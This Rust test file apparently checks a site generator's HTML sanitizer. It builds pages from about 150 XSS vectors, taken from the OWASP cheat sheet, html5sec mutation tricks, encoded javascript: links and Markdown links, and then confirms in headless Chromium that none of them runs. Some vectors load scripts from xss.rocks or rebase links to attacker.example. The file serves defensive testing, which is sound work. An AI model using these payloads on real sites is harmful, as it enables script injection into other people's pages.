//! A broad XSS vector suite against the sanitizer, run in headless Chromium: the
//! OWASP XSS filter-evasion cheat sheet, html5sec (SVG/MathML namespace confusion,
//! mutation XSS through `noscript`/`textarea`/`style`/comments), entity-encoded and
//! whitespace-split schemes, `<base>`, `<meta http-equiv=refresh>`, `<form action>`,
//! overlays by `position:fixed`, unbalanced tags, and the same tricks in Markdown
//! links. Each vector is one page; in the browser, after every element's handlers
//! are provoked (mouse over, click, focus), no script from the content has run, no
//! dangerous element or attribute is in the page, the page did not navigate away, and
//! the theme's frame around the content is exactly that of a plain page (nothing
//! closed or swallowed it).

use crate::browser::{chromium, serve_dir};
use crate::cdp;
use crate::util::Site;
use std::time::Duration;

/// `$P$` stands for the payload: it sets `top.__pwned` to the vector's number.
const VECTORS: &[&str] = &[
    // OWASP XSS filter evasion cheat sheet.
    "<script>$P$</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:$P$;\">",
    "<IMG SRC=javascript:$P$>",
    "<IMG SRC=JaVaScRiPt:$P$>",
    "<IMG SRC=`javascript:$P$`>",
    "<a onmouseover=\"$P$\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>$P$</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"$P$\">",
    "<IMG SRC= onmouseover=\"$P$\">",
    "<IMG onmouseover=\"$P$\">",
    "<IMG SRC=/ onerror=\"$P$\"></img>",
    "<img src=x onerror=\"&#116;&#111;&#112;&#46;__pwned=1\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$P$>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$P$>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A $P$>",
    "<IMG SRC=\"jav\tascript:$P$;\">",
    "<IMG SRC=\"jav&#x09;ascript:$P$;\">",
    "<IMG SRC=\"jav&#x0A;ascript:$P$;\">",
    "<IMG SRC=\"jav&#x0D;ascript:$P$;\">",
    "<IMG SRC=\" &#14;  javascript:$P$;\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=$P$>",
    "<<SCRIPT>$P$//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>$P$</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:$P$;\">",
    "<BODY BACKGROUND=\"javascript:$P$\">",
    "<IMG DYNSRC=\"javascript:$P$\"><IMG LOWSRC=\"javascript:$P$\">",
    "<STYLE>li {list-style-image: url(\"javascript:$P$\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=$P$>",
    "<BODY ONLOAD=$P$>",
    "<BGSOUND SRC=\"javascript:$P$;\">",
    "<BR SIZE=\"&{$P$}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:$P$;\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:$P$';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession($P$)\">",
    "<STYLE TYPE=\"text/javascript\">$P$;</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:$P$\");}</STYLE><A CLASS=XSS></A>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:$P$;\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:$P$;\">",
    "<IFRAME SRC=\"javascript:$P$;\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"$P$\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:$P$;\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:$P$\">",
    "<TABLE><TD BACKGROUND=\"javascript:$P$\">",
    "<DIV STYLE=\"background-image: url(javascript:$P$)\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0050\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression($P$);\">",
    "<BASE HREF=\"javascript:$P$;//\">",
    "<base href=\"//attacker.example/\"><a href=\"x\">相对链接</a>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLl9fcHduZWQ9MSIvPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    // html5sec and later sanitizer bypasses.
    "<form action=\"javascript:$P$\"><button>提交</button></form>",
    "<form><button formaction=\"javascript:$P$\">提交</button></form>",
    "<form id=f></form><button form=f formaction=javascript:$P$>X</button>",
    "<isindex type=image src=1 onerror=$P$>",
    "<input onfocus=$P$ autofocus>",
    "<select onfocus=$P$ autofocus><option>1</select>",
    "<textarea onfocus=$P$ autofocus>x</textarea>",
    "<keygen onfocus=$P$ autofocus>",
    "<video><source onerror=\"$P$\"></video>",
    "<video poster=javascript:$P$//></video>",
    "<x onclick=$P$>click",
    "<div onpointerover=$P$>移上来</div>",
    "<details open ontoggle=$P$><summary>展开</summary>内容</details>",
    "<marquee onstart=$P$>滚动</marquee>",
    "<math><a xlink:href=\"javascript:$P$\">click</a></math>",
    "<math href=\"javascript:$P$\">CLICKME</math>",
    "<svg><a xlink:href=\"javascript:$P$\"><rect width=\"100\" height=\"100\"/></a></svg>",
    "<svg><script>$P$</script></svg>",
    "<svg><style><img src=x onerror=$P$></style></svg>",
    "<svg><animate onbegin=$P$ attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:$P$>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$P$>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=$P$>",
    "<math><mi><table><mi><style><img src=x onerror=$P$></style>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=$P$>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=$P$>\"></noscript>",
    "<textarea></textarea><img src=x onerror=$P$>",
    "<textarea><img src=x onerror=$P$></textarea>",
    "<style><img src=x onerror=$P$></style>",
    "<title><img src=x onerror=$P$></title>",
    "<xmp><img src=x onerror=$P$></xmp>",
    "<noembed><img src=x onerror=$P$></noembed>",
    "<iframe srcdoc=\"<script>$P$</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.__pwned=1</script>\"></iframe>",
    "<object data=\"javascript:$P$\"></object>",
    "<embed src=\"javascript:$P$\">",
    "<applet code=\"javascript:$P$\"></applet>",
    "<link rel=import href=\"data:text/html,<script>$P$</script>\">",
    "<!--[if gte IE 4]><SCRIPT>$P$</SCRIPT><![endif]-->",
    "<!--<img src=\"--><img src=x onerror=$P$//\">",
    "<![CDATA[<img src=x onerror=$P$>]]>",
    "<? foo=\"><script>$P$</script>\">",
    "<!-- --!><img src=x onerror=$P$> -->",
    "<scr<script>ipt>$P$</scr</script>ipt>",
    "<img/src=x/onerror=$P$>",
    "<img src=x onerror=\"$P$\"/>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$P$'/>\">",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;$P$\">x</a>",
    "<a href=\"javascript&colon;$P$\">x</a>",
    "<a href=\"jav&NewLine;ascript&colon;$P$\">x</a>",
    "<a href=\"&#14;javascript:$P$\">x</a>",
    "<a href=\"  &#x20;javascript:$P$\">x</a>",
    "<a href=\"javas&#99;ript:$P$\">x</a>",
    "<a href=\"javas&#0000099ript:$P$\">x</a>",
    "<a href=javascript:$P$>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<div style=\"behavior: url(x.htc)\">x</div><div style=\"-moz-binding:url(x)\">y</div>",
    "<iframe src=\"javascript:$P$\"><a href=\"/\">x</a>",
    "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
    "+ADw-script+AD4-$P$+ADw-/script+AD4-",
    "<a href=\"#\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">假通知</a>",
    "<div style=\"position: fixed; z-index: 2147483647; inset: 0; background: white\">假通知：全文作废</div>",
    // Unbalanced markup: it must not close the theme's elements or swallow them.
    "</div></div></div></div></div></div><div style=\"color:#b71c1c\">假页眉</div>",
    "</article></main><footer>假页脚</footer>",
    "<table><tr><td>未闭合的表格",
    "<div><span><b>未闭合的标签",
    "<ul><li>一<li>二",
    "<a href=\"/\">未闭合的链接",
    // The same tricks in Markdown.
    "[点我](javascript:$P$)",
    "![图](javascript:$P$)",
    "[点我](JaVaScRiPt:$P$)",
    "[点我](&#106;avascript:$P$)",
    "[点我](java&#x09;script:$P$)",
    "[点我](<javascript:$P$>)",
    "[点我][1]\n\n[1]: javascript:$P$",
    "<javascript:$P$>",
    "[点我](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
];

/// The page's frame around the content (tag names and classes), the content left out.
const SKELETON: &str = "(function () { function sk(n) { if (n.matches('article .content')) return '[content]'; \
    var s = '<' + n.tagName + (n.className && n.className.baseVal === undefined ? '.' + n.className : '') + '>'; \
    for (var i = 0; i < n.children.length; i++) s += sk(n.children[i]); return s + '</>'; } return sk(document.body); })()";

/// Provokes every handler in the content, then lists what is dangerous in it.
const PROBE: &str = "(function () { var c = document.querySelector('article .content'); var bad = []; \
    document.addEventListener('click', function (e) { e.preventDefault(); }, true); \
    ['mouseover', 'pointerover', 'mouseenter', 'click', 'focus', 'toggle', 'animationstart'].forEach(function (t) { \
      c.querySelectorAll('*').forEach(function (e) { try { e.dispatchEvent(new Event(t, { bubbles: true })); if (t === 'click') e.click(); if (t === 'focus' && e.focus) e.focus(); } catch (x) {} }); }); \
    var banned = /^(script|iframe|frame|frameset|object|embed|applet|base|meta|link|form|button|textarea|select|style|svg|math|noscript|template|video|audio|source|marquee|isindex|keygen|title|xmp|noembed)$/i; \
    c.querySelectorAll('*').forEach(function (e) { \
      if (banned.test(e.localName)) bad.push('<' + e.localName + '>'); \
      if (e.localName === 'input' && !(e.type === 'checkbox' && e.disabled)) bad.push('<input>'); \
      for (var i = 0; i < e.attributes.length; i++) { var a = e.attributes[i], n = a.name.toLowerCase(), v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase(); \
        if (n.indexOf('on') === 0) bad.push(n); \
        if (/(^|:)(href|src|action|formaction|background|poster|data|dynsrc|lowsrc|to|from|values)$/.test(n) && /^(javascript|vbscript|data:text|data:image\\/svg|livescript)/.test(v)) bad.push(n + '=' + v); \
        if (n === 'style' && /position|z-index|expression|url\\(|behavior|binding|inset|transform/.test(v)) bad.push('style=' + v); } }); \
    return bad; })()";

#[test]
fn the_xss_vector_suite_runs_nothing_in_chromium() {
    let _heavy = crate::util::heavy();
    let s = Site::new();
    s.file("content/x/_index.md", "+++\ntitle = \"向量\"\n+++\n");
    s.file("content/x/v000/page.md", "+++\ntitle = \"对照页\"\n+++\n普通的正文。\n");
    for (i, v) in VECTORS.iter().enumerate() {
        let n = i + 1;
        let body = v.replace("$P$", &format!("top.__pwned={n}"));
        // As a block of its own and inside a paragraph (inline HTML).
        let body = if body.contains('\n') { body } else { format!("{body}\n\n行内：前 {body} 后。\n") };
        s.file(&format!("content/x/v{n:03}/page.md"), &format!("+++\ntitle = \"向量{n}号\"\n+++\n{body}\n\n正文之后的一段。\n"));
    }
    let r = s.run(&["build"]);
    r.expect(0);
    for needle in ["已删除不安全的网页代码", "多余的结束标签 </div>", "<table> 没有结束标签", "它后面的内容一并删除了", "style 中的 position、z-index"]
    {
        assert!(r.stderr.contains(needle), "{needle}:\n{}", r.stderr);
    }
    let Some(exe) = chromium() else { return };
    let base = serve_dir(s.public());
    let mut b = cdp::Browser::launch(exe);
    b.navigate(&format!("{base}x/v000/page/"));
    let skeleton = b.eval(SKELETON);
    let mut failures = Vec::new();
    for n in 1..=VECTORS.len() {
        let path = format!("/x/v{n:03}/page/");
        b.navigate(&format!("{base}{}", &path[1..]));
        let bad = b.eval(PROBE);
        std::thread::sleep(Duration::from_millis(150));
        let pwned = b.eval("typeof top.__pwned === 'undefined' ? null : String(top.__pwned)");
        let here = b.eval("location.pathname + '|' + document.baseURI");
        let frame = b.eval(SKELETON);
        let text_after = b.eval("(document.querySelector('article .content') || {}).textContent || ''");
        let v = VECTORS[n - 1];
        if !pwned.is_null() {
            failures.push(format!("{n} {v}: a script ran ({pwned})"));
        }
        if bad.as_array().is_some_and(|a| !a.is_empty()) {
            failures.push(format!("{n} {v}: left in the page: {bad}"));
        }
        if here.as_str() != Some(&format!("{path}|{base}{}", &path[1..])) {
            failures.push(format!("{n} {v}: navigated or rebased: {here}"));
        }
        if frame != skeleton {
            failures.push(format!("{n} {v}: the theme's frame changed:\n  {frame}\n  expected {skeleton}"));
        }
        // An unclosed <script> (or <style>, <textarea>) holds everything after it, in a
        // browser as in CommonMark: that text goes with it (and the warning says so).
        let lower = v.to_ascii_lowercase();
        let swallows = ["script", "style", "textarea"].iter().any(|t| lower.contains(&format!("<{t}")) && !lower.contains(&format!("</{t}")));
        if !swallows && !text_after.as_str().unwrap_or("").contains("正文之后的一段") {
            failures.push(format!("{n} {v}: the text after it is not inside the content"));
        }
    }
    assert!(failures.is_empty(), "{} of {} vectors failed:\n{}", failures.len(), VECTORS.len(), failures.join("\n"));
    // The probe can fail: the same markup put in by a script does run and is seen.
    b.navigate(&format!("{base}x/v000/page/"));
    b.eval("document.querySelector('article .content').insertAdjacentHTML('beforeend', '<img src=x onerror=\"top.__pwned=0\"><a href=\"javascript:void 0\">x</a>'); 0");
    b.wait_for("top.__pwned === 0", Duration::from_secs(5)).expect("an onerror handler runs in this browser");
    assert!(b.eval(PROBE).as_array().is_some_and(|a| a.len() == 2), "the probe sees handlers and javascript: links");
}
